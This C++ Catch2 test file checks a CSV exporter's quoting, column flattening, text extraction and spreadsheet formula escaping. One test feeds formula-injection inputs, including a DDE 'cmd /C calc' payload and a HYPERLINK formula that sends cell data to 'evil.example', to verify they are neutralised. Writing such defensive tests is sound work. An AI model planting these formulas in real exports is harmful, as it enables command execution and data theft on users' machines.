#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include <optional>
#include <string>
#include <vector>

#include "engine/error.hpp"
#include "engine/export/csv_writer.hpp"
#include "engine/timestamp.hpp"

// Each test file has a namespace of its own: the test files are compiled several to a unit.
namespace test_export_csv {

using namespace tracesift;
using namespace tracesift::exporter;
using nlohmann::json;

namespace {

// A field as read back: nullopt for an empty unquoted field (a missing value).
using Field = std::optional<std::string>;
using Record = std::vector<Field>;

// A strict RFC 4180 reader: CRLF record ends, quoted fields with doubled quotes; fails the test on
// anything else (a bare quote inside an unquoted field, a lone CR or LF outside quotes, ...).
std::vector<Record> read_csv(const std::string& text) {
  std::vector<Record> records;
  Record record;
  size_t i = 0;
  while (i < text.size()) {
    Field field;
    if (text[i] == '"') {
      std::string value;
      ++i;
      while (true) {
        REQUIRE(i < text.size());
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            value += '"';
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        value += text[i++];
      }
      field = value;
    } else {
      std::string value;
      while (i < text.size() && text[i] != ',' && text[i] != '\r') {
        REQUIRE(text[i] != '"');
        REQUIRE(text[i] != '\n');
        value += text[i++];
      }
      if (!value.empty()) field = value;
    }
    record.push_back(field);
    REQUIRE(i < text.size());
    if (text[i] == ',') {
      ++i;
      continue;
    }
    REQUIRE(text.compare(i, 2, "\r\n") == 0);
    i += 2;
    records.push_back(std::move(record));
    record.clear();
  }
  return records;
}

struct CsvRow {
  int64_t id = 1;
  std::string dataset = "support-triage";
  std::optional<std::string> span_id = "c346479f0b5301f4";
  std::optional<int64_t> rule_id;
  std::optional<std::string> trace_id, session_id;
  std::optional<std::string> input, output;
  std::string metadata = "{}";

  ExportRow view() const {
    ExportRow r;
    r.id = id;
    r.dataset = dataset;
    if (span_id) r.span_id = *span_id;
    r.source = "span_export";
    r.rule_id = rule_id;
    if (trace_id) r.trace_id = *trace_id;
    if (session_id) r.session_id = *session_id;
    if (input) r.input_json = *input;
    if (output) r.output_json = *output;
    r.created_ns = *parse_rfc3339("2025-05-02T00:03:48.865Z");
    r.metadata_json = metadata;
    return r;
  }
};

std::vector<Record> export_rows(const std::vector<CsvRow>& rows, CsvFormulas formulas = CsvFormulas::escape) {
  CsvWriter writer(kDefaultFlushBytes, formulas);
  StringSink sink;
  writer.begin(sink);
  for (const CsvRow& r : rows) writer.row(r.view());
  writer.end();
  CHECK(writer.rows_written() == static_cast<int64_t>(rows.size()));
  CHECK(writer.rejected().empty());
  auto records = read_csv(sink.text);
  REQUIRE(records.size() == rows.size() + 1);
  for (const Record& r : records) CHECK(r.size() == kCsvColumns.size());
  return records;
}

// The value of `column` in a record.
Field cell(const Record& record, std::string_view column) {
  for (size_t i = 0; i < kCsvColumns.size(); ++i) {
    if (kCsvColumns[i] == column) return record.at(i);
  }
  FAIL("no column " << column);
  return std::nullopt;
}

}  // namespace

TEST_CASE("csv: a header, then the metadata flattened into columns and the conversation as text and JSON",
          "[export][csv]") {
  CsvRow r;
  r.id = 42;
  r.rule_id = 5;
  r.session_id = "sess_8590b2af37bc37e1";
  r.input =
      R"([{"role":"system","content":"You are Acme Store's support assistant."},{"role":"user","content":"Where is order 332042?"},)"
      R"({"role":"assistant","content":"Let me check that for you.","tool_calls":[{"id":"call_a999","type":"function","function":{"name":"get_order","arguments":"{\"order_id\":\"332042\"}"}}]},)"
      R"({"role":"tool","tool_call_id":"call_a999","content":"{\"status\":\"out for delivery\"}"}])";
  r.output = R"([{"role":"assistant","content":"It is out for delivery and should reach you by May 10."}])";
  r.metadata =
      R"({"name":"chat claude-sonnet-4-5","kind":"llm_call","status":"completed","model":"claude-sonnet-4-5","provider":"anthropic","environment":"production","task":"support-triage","user_id":"user_0087","input_tokens":90,"output_tokens":31,"cost_usd":0.000735,"started_ns":1746144079292000000,"ended_ns":1746144080093000000,"trace_id":"de84480191dc7d60c681c9c036db0455","extra":1})";
  const auto records = export_rows({r});
  Record header;
  for (const auto c : kCsvColumns) header.emplace_back(std::string(c));
  CHECK(records[0] == header);
  const Record& row = records[1];
  CHECK(cell(row, "id") == "42");
  CHECK(cell(row, "dataset") == "support-triage");
  CHECK(cell(row, "source") == "span_export");
  CHECK(cell(row, "source_span_id") == "c346479f0b5301f4");
  CHECK(cell(row, "rule_id") == "5");
  CHECK(cell(row, "created_at") == "2025-05-02T00:03:48.865Z");
  CHECK(cell(row, "trace_id") == "de84480191dc7d60c681c9c036db0455");  // from the metadata
  CHECK(cell(row, "session_id") == "sess_8590b2af37bc37e1");           // the row's own
  CHECK(cell(row, "user_id") == "user_0087");
  CHECK(cell(row, "name") == "chat claude-sonnet-4-5");
  CHECK(cell(row, "kind") == "llm_call");
  CHECK(cell(row, "status") == "completed");
  CHECK(cell(row, "model") == "claude-sonnet-4-5");
  CHECK(cell(row, "provider") == "anthropic");
  CHECK(cell(row, "environment") == "production");
  CHECK(cell(row, "task") == "support-triage");
  CHECK(cell(row, "input_tokens") == "90");
  CHECK(cell(row, "output_tokens") == "31");
  CHECK(cell(row, "cost_usd") == "0.000735");
  CHECK(cell(row, "started_at") == "2025-05-02T00:01:19.292Z");
  CHECK(cell(row, "ended_at") == "2025-05-02T00:01:20.093Z");
  CHECK(cell(row, "input_text") == "Where is order 332042?");
  CHECK(cell(row, "output_text") == "It is out for delivery and should reach you by May 10.");
  CHECK(cell(row, "input_json") == *r.input);
  CHECK(cell(row, "output_json") == *r.output);
}

TEST_CASE("csv: fields with commas, quotes, line breaks and UTF-8 are quoted, the rest are not", "[export][csv]") {
  CsvRow r;
  r.dataset = "eval, \"golden\"";
  r.input = R"([{"role":"user","content":"Line one,\r\nline \"two\"\n— Grüße, 日本語 🙂"}])";
  r.output = R"("plain reply")";
  r.metadata = R"({"model":"gpt-4o","task":"a\"b","environment":"","provider":null,"input_tokens":null})";
  CsvWriter writer;
  StringSink sink;
  writer.begin(sink);
  writer.row(r.view());
  writer.end();
  CHECK(sink.text.find("\"eval, \"\"golden\"\"\"") != std::string::npos);
  CHECK(sink.text.find(",gpt-4o,") != std::string::npos);  // no quotes where none are needed
  CHECK(sink.text.find(",\"a\"\"b\",") != std::string::npos);
  CHECK(sink.text.find("\xEF\xBB\xBF") == std::string::npos);  // no byte order mark
  const auto records = read_csv(sink.text);
  REQUIRE(records.size() == 2);
  const Record& row = records[1];
  CHECK(cell(row, "dataset") == "eval, \"golden\"");
  CHECK(cell(row, "input_text") == "Line one,\r\nline \"two\"\n— Grüße, 日本語 🙂");
  CHECK(cell(row, "output_text") == "plain reply");
  CHECK(cell(row, "task") == "a\"b");
  CHECK(cell(row, "environment") == "");  // an empty string is "", a missing value is empty
  CHECK(cell(row, "provider") == std::nullopt);
  CHECK(cell(row, "input_tokens") == std::nullopt);
  CHECK(cell(row, "rule_id") == std::nullopt);
  CHECK(json::parse(*cell(row, "input_json")) == json::parse(*r.input));
}

TEST_CASE("csv: text columns read what they can and stay empty otherwise", "[export][csv]") {
  CsvRow parts;  // text parts joined, an image part left out; several assistant messages joined
  parts.input =
      R"([{"role":"user","content":"first question"},{"role":"assistant","content":"first answer"},)"
      R"({"role":"user","content":[{"type":"text","text":"What is in"},{"type":"image_url","image_url":{"url":"https://example.com/a.png"}},{"type":"text","text":"this picture?"}]}])";
  parts.output =
      R"([{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"look","arguments":"{}"}}]},{"role":"tool","tool_call_id":"c","content":"a cat"},{"role":"assistant","content":"A cat."}])";
  CsvRow raw;  // a retrieval span: no messages
  raw.id = 2;
  raw.span_id.reset();
  raw.input = R"({"query":"refund policy","top_k":5})";
  raw.output = R"([{"id":"doc_1","score":0.93}])";
  raw.metadata = R"({"kind":"retrieval","model":["a","b"],"cost_usd":1e-7,"started_ns":"not a number"})";
  CsvRow none;  // nothing at all
  none.id = 3;
  none.metadata = "";
  const auto records = export_rows({parts, raw, none});
  CHECK(cell(records[1], "input_text") == "What is in\nthis picture?");
  CHECK(cell(records[1], "output_text") == "A cat.");
  CHECK(cell(records[2], "input_text") == std::nullopt);
  CHECK(cell(records[2], "output_text") == std::nullopt);
  CHECK(cell(records[2], "source_span_id") == std::nullopt);
  CHECK(cell(records[2], "model") == R"(["a","b"])");
  CHECK(cell(records[2], "cost_usd") == "1e-7");  // numbers as stored
  CHECK(cell(records[2], "started_at") == "not a number");
  CHECK(cell(records[2], "input_json") == *raw.input);
  for (size_t i = 6; i < kCsvColumns.size(); ++i) CHECK(records[3][i] == std::nullopt);
}

TEST_CASE("csv: append_csv_field quotes exactly when RFC 4180 needs it", "[export][csv]") {
  const auto field = [](std::string_view v) {
    std::string out;
    append_csv_field(out, v);
    return out;
  };
  CHECK(field("plain text") == "plain text");
  CHECK(field("") == "\"\"");
  CHECK(field("a,b") == "\"a,b\"");
  CHECK(field("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(field("\"") == "\"\"\"\"");
  CHECK(field("a\nb") == "\"a\nb\"");
  CHECK(field("a\rb") == "\"a\rb\"");
  CHECK(field("ünï 🙂") == "ünï 🙂");
}

TEST_CASE("csv: text cells that start like a formula get a ' in front; numbers stay numbers", "[export][csv]") {
  CsvRow r;
  r.dataset = "=cmd|' /C calc'!A0";
  r.span_id = "+1-555-0100";
  r.session_id = "@SUM(1+1)*cmd|' /C calc'!A0";
  r.trace_id = "-2+3";
  r.input = R"x([{"role":"user","content":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}])x";
  r.output = R"("\tleading tab")";
  r.metadata = R"({"name":"\r=1+1","model":"=gpt","task":"a=b","user_id":"-","environment":"@home","provider":"+x",)"
               R"("input_tokens":-5,"cost_usd":-0.25,"kind":"llm_call"})";
  const auto escaped = export_rows({r});
  const Record& row = escaped[1];
  CHECK(cell(row, "dataset") == "'=cmd|' /C calc'!A0");
  CHECK(cell(row, "source_span_id") == "'+1-555-0100");
  CHECK(cell(row, "session_id") == "'@SUM(1+1)*cmd|' /C calc'!A0");
  CHECK(cell(row, "trace_id") == "'-2+3");
  CHECK(cell(row, "input_text") == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  CHECK(cell(row, "output_text") == "'\tleading tab");
  CHECK(cell(row, "name") == "'\r=1+1");
  CHECK(cell(row, "model") == "'=gpt");
  CHECK(cell(row, "task") == "a=b");  // only the first character counts
  CHECK(cell(row, "user_id") == "'-");
  CHECK(cell(row, "environment") == "'@home");
  CHECK(cell(row, "provider") == "'+x");
  CHECK(cell(row, "kind") == "llm_call");
  CHECK(cell(row, "input_tokens") == "-5");  // a JSON number is a number, never a formula
  CHECK(cell(row, "cost_usd") == "-0.25");
  CHECK(cell(row, "input_json") == *r.input);  // starts with '['
  // raw: every cell as it is.
  const auto raw = export_rows({r}, CsvFormulas::raw);
  CHECK(cell(raw[1], "dataset") == r.dataset);
  CHECK(cell(raw[1], "input_text") == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  CHECK(cell(raw[1], "name") == "\r=1+1");
  CHECK(cell(raw[1], "output_text") == "\tleading tab");
}

TEST_CASE("csv: a NUL character is written as U+FFFD; the JSON columns keep its escape", "[export][csv]") {
  CsvRow r;
  r.input = R"([{"role":"user","content":"before\u0000after"}])";
  r.metadata = R"({"model":"m\u0000","name":"\u0000=x"})";
  for (const CsvFormulas formulas : {CsvFormulas::escape, CsvFormulas::raw}) {
    CsvWriter writer(kDefaultFlushBytes, formulas);
    StringSink sink;
    writer.begin(sink);
    writer.row(r.view());
    writer.end();
    CHECK(sink.text.find('\0') == std::string::npos);
    const auto records = read_csv(sink.text);
    REQUIRE(records.size() == 2);
    CHECK(cell(records[1], "input_text") ==
          "before\xEF\xBF\xBD"
          "after");
    CHECK(cell(records[1], "model") == "m\xEF\xBF\xBD");
    CHECK(cell(records[1], "name") == "\xEF\xBF\xBD=x");  // starts with U+FFFD, not '='
    CHECK(cell(records[1], "input_json") == *r.input);
  }
  std::string out;
  append_csv_field(out, std::string_view("a\0b,c", 5));
  CHECK(out ==
        "\"a\xEF\xBF\xBD"
        "b,c\"");
}

TEST_CASE("csv: append_csv_field prefixes formulas inside quotes too, and leaves them raw when asked",
          "[export][csv]") {
  const auto field = [](std::string_view v, CsvFormulas f) {
    std::string out;
    append_csv_field(out, v, f);
    return out;
  };
  CHECK(field("=1+1", CsvFormulas::escape) == "'=1+1");
  CHECK(field("=SUM(A1,A2)", CsvFormulas::escape) == "\"'=SUM(A1,A2)\"");
  CHECK(field("=\"x\"", CsvFormulas::escape) == "\"'=\"\"x\"\"\"");
  CHECK(field("\rx", CsvFormulas::escape) == "\"'\rx\"");
  CHECK(field("\tx", CsvFormulas::escape) == "'\tx");
  CHECK(field("=SUM(A1,A2)", CsvFormulas::raw) == "\"=SUM(A1,A2)\"");
  CHECK(field("-", CsvFormulas::raw) == "-");
  CHECK(field("", CsvFormulas::escape) == "\"\"");
  CHECK(field("x=1", CsvFormulas::escape) == "x=1");
}

TEST_CASE("csv: export options are read from JSON, and unknown ones are refused", "[export][csv]") {
  CHECK(parse_export_options("{}").csv_formulas == CsvFormulas::escape);
  CHECK(parse_export_options(R"({"csv_formulas":"raw"})").csv_formulas == CsvFormulas::raw);
  CHECK(parse_export_options(R"({"csv_formulas":"escape"})").csv_formulas == CsvFormulas::escape);
  for (const std::string bad :
       {R"({"csv_formulas":"yes"})", R"({"csv_formulas":1})", R"({"formulas":"raw"})", "[]", "not json"}) {
    try {
      parse_export_options(bad);
      FAIL("accepted " << bad);
    } catch (const Error& e) {
      CHECK(e.code() == Errc::invalid_argument);
    }
  }
}

}  // namespace test_export_csv
